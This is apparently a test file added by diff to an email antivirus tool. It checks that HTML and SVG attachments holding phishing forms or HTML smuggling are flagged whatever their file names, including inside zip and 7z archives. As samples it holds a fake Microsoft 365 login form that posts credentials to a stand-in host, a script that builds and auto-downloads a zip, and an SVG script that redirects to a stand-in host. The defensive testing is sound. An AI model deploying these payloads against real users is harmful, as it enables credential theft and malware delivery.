@@ -1,0 +1,56 @@
+"""Web pages and SVG images mailed as attachments: login forms and file smuggling."""
+
+from __future__ import annotations
+
+import pytest
+
+from portcullis.antivirus.archives import Problem, inventory
+from portcullis.mime import parse_message
+from tests.support.attachments import mail, seven_zip, zip_of
+
+pytestmark = pytest.mark.antivirus
+
+LOGIN_PAGE = (b"<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>"
+              b"<form method=post action='https://collect.example.net/p.php'>"
+              b"<input type=email name=u><input name=p TYPE = 'Password'>"
+              b"<button>Sign in to view the invoice</button></form></body></html>")
+SMUGGLING_PAGE = (b"<html><body><script>var d=atob('UEsDBA==');var b=new Blob([d]);"
+                  b"var a=document.createElement('a');a.href=URL.createObjectURL(b);"
+                  b"a.download='Invoice.zip';a.click();</script></body></html>")
+SCRIPTED_SVG = (b"<?xml version='1.0'?>\n<!-- exported -->\n<svg xmlns='http://www.w3.org/"
+                b"2000/svg'><script>window.location='https://x.example.net/'+location.hash"
+                b"</script></svg>")
+NEWSLETTER = (b"<html><body><h1>News</h1><svg width=10 height=10><circle r=4/></svg>"
+              b"<script>console.log('analytics')</script><a href=x>Read more</a>"
+              b"</body></html>")
+
+
+def findings(name: str, data: bytes) -> list[tuple[str, str]]:
+    found = inventory(parse_message(mail("x", attachments=[(name, data)])))
+    return [(f.shown, f.detail) for f in found.problems(Problem.ACTIVE)]
+
+
+@pytest.mark.parametrize(("name", "data", "detail"), [
+    ("Invoice.html", LOGIN_PAGE, "a form asking for a password"),
+    ("Invoice.pdf", LOGIN_PAGE, "a form asking for a password"),      # by its first bytes
+    ("Scan.htm", SMUGGLING_PAGE, "a script that builds a file to download (HTML smuggling)"),
+    ("voicemail.svg", SCRIPTED_SVG, "a script in an SVG image"),
+    ("voicemail.png", SCRIPTED_SVG, "a script in an SVG image"),
+])
+def test_pages_that_phish_or_smuggle_are_found_whatever_they_are_called(name, data, detail):
+    assert findings(name, data) == [(name, detail)]
+
+
+def test_an_ordinary_page_with_pictures_and_scripts_is_not_active_content():
+    assert findings("newsletter.html", NEWSLETTER) == []
+    assert findings("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>") == []
+    # A page's text about passwords is not a password field.
+    assert findings("help.html", b"<html><p>Never type your password into a form"
+                                 b" that came by mail.</p></html>") == []
+
+
+def test_pages_inside_archives_are_looked_at_too():
+    assert findings("docs.zip", zip_of({"Invoice.html": LOGIN_PAGE})) == [
+        ("docs.zip > Invoice.html", "a form asking for a password")]
+    assert findings("docs.7z", seven_zip({"view/Invoice.htm": SMUGGLING_PAGE})) == [
+        ("docs.7z > Invoice.htm", "a script that builds a file to download (HTML smuggling)")]
